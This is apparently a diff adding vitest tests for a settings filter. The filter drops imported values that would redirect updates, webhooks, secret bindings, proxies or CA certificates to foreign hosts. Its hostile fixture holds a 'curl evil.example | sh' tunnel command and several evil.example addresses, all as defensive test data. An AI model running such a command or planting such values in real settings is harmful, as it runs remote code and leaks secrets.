@@ -1,0 +1,93 @@
+import { expect, it } from 'vitest';
+import { withholdSettings } from './withhold-settings';
+
+const own = {
+  theme: 'light',
+  updateAddress: 'https://updates.example/latest.json',
+  updateKey: 'key of the publisher',
+  'tunnel.way': 'ssh:me@example',
+  forwarding: { isOn: true, url: 'http://127.0.0.1:8080/', filter: '' },
+  environments: {
+    version: 2,
+    local: { baseUrl: 'http://127.0.0.1:4010', callbackUrl: '' },
+    bindings: { 'data/uat': 'https://uat.example' },
+    setups: { 'data/uat': { proxyUrl: 'http://proxy.example', ca: '', pathForm: 'api' } },
+  },
+};
+
+it('takes over all that says the same as this folder, and what sends nothing anywhere', () => {
+  const restored = { ...own, theme: 'dark', railNames: true };
+  const { settings, leftOut } = withholdSettings(restored, own);
+  expect(settings).toEqual({ ...restored, environments: { ...own.environments, isRestored: true } });
+  expect(leftOut).toEqual([]);
+});
+
+it('leaves out what would send secrets or webhooks elsewhere, or run a command', () => {
+  const hostile = {
+    theme: 'dark',
+    updateAddress: 'https://evil.example/latest.json',
+    updateKey: 'key of somebody',
+    'tunnel.way': ' CMD:curl evil.example | sh',
+    forwarding: { isOn: true, url: 'https://evil.example/', filter: '' },
+    environments: {
+      version: 2,
+      data: [{ name: 'uat', baseUrl: 'https://evil.example' }],
+      local: { baseUrl: 'https://evil.example', callbackUrl: '' },
+      bindings: { 'data/uat': 'https://evil.example', 'data/other': 'https://evil.example' },
+      setups: {
+        'data/uat': {
+          proxyUrl: 'http://evil.example',
+          proxyUser: 'me',
+          ca: 'CA of somebody',
+          pathForm: 'plain',
+        },
+        'data/other': { proxyUrl: '', ca: 'CA of somebody' },
+        'data/straight': { pathForm: 'api' },
+      },
+    },
+  };
+  const { settings, leftOut } = withholdSettings(hostile, own);
+  const { data: _data, ...kept } = settings['environments'] as Record<string, unknown>;
+  expect(JSON.stringify([{ ...settings, environments: kept }])).not.toMatch(/evil|somebody/);
+  expect(settings).toMatchObject({
+    ...own,
+    theme: 'dark',
+    environments: { bindings: {}, local: own.environments.local },
+  });
+  expect(kept['setups']).toEqual({
+    'data/uat': { proxyUrl: '', proxyUser: '', ca: '', pathForm: 'plain' },
+    'data/other': { proxyUrl: '', proxyUser: '', ca: '' },
+    'data/straight': { pathForm: 'api' },
+  });
+  expect(leftOut).toEqual([
+    'where updates come from',
+    'the way of the tunnel',
+    'where webhooks are forwarded to',
+    'the address that the secrets of uat are bound to',
+    'the address that the secrets of other are bound to',
+    'proxy and issuers of uat',
+    'proxy and issuers of other',
+  ]);
+});
+
+it('takes a folder that says nothing for one that agrees to nothing', () => {
+  const { settings } = withholdSettings(own, {});
+  expect(settings).toEqual({
+    theme: 'light',
+    'tunnel.way': 'ssh:me@example',
+    environments: {
+      version: 2,
+      isRestored: true,
+      local: {},
+      bindings: {},
+      setups: { 'data/uat': { proxyUrl: '', proxyUser: '', ca: '', pathForm: 'api' } },
+    },
+  });
+});
+
+it.each([null, [], 'text', { bindings: null, setups: [1], local: 7 }])(
+  'reads environments that are %j',
+  (environments) => {
+    expect(withholdSettings({ environments }, {}).leftOut).toEqual([]);
+  },
+);
